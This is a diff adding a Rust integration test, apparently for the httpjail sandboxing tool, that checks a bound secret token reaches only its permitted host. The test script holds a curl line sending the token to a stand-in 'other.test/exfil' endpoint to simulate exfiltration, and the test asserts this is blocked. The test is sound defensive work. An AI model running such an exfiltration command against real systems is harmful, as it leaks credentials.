@@ -517,3 +517,50 @@ async fn jails_started_while_others_shut_down() {
     assert!(out.stdout.contains("5=200"), "{out:?}");
     assert_eq!(w.https.count(), 6);
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn secrets_in_strong_mode_reach_only_their_host() {
+    if !prerequisites() {
+        return;
+    }
+    let w = World::new().await;
+    let real = "s3cr3t-strong-token-a7c2";
+    let script = "echo token=$TOKEN; \
+        curl -sS -o /dev/null -H \"Authorization: Bearer $TOKEN\" https://name.test/with-secret; echo; \
+        curl -sS -o /dev/null -w 'other=%{http_code}' -H \"Authorization: Bearer $TOKEN\" https://other.test/exfil";
+    let log = w.home.path().join("log.jsonl");
+    let mut cmd = w.httpjail(&[
+        "--js",
+        "true",
+        "--secret",
+        "TOKEN=name.test",
+        "--request-log",
+        log.to_str().unwrap(),
+        "--request-log-format",
+        "json",
+        "--",
+        "sh",
+        "-c",
+        script,
+    ]);
+    cmd.env("TOKEN", real);
+    let out = Out::from(cmd.output().unwrap());
+    assert_eq!(out.code, Some(0), "{out:?}");
+    assert!(
+        out.stdout.contains("token=httpjail-secret-TOKEN-"),
+        "{out:?}"
+    );
+    assert!(
+        !out.stdout.contains(real) && !out.stderr.contains(real),
+        "{out:?}"
+    );
+    assert!(out.stdout.contains("other=403"), "{out:?}");
+    let seen = w.https.seen();
+    assert_eq!(seen.len(), 1, "only the bound host is contacted: {out:?}");
+    assert_eq!(seen[0].headers["authorization"], format!("Bearer {real}"));
+    let text = std::fs::read_to_string(&log).unwrap();
+    assert!(
+        text.contains("secret_leak") && !text.contains(real),
+        "{text}"
+    );
+}
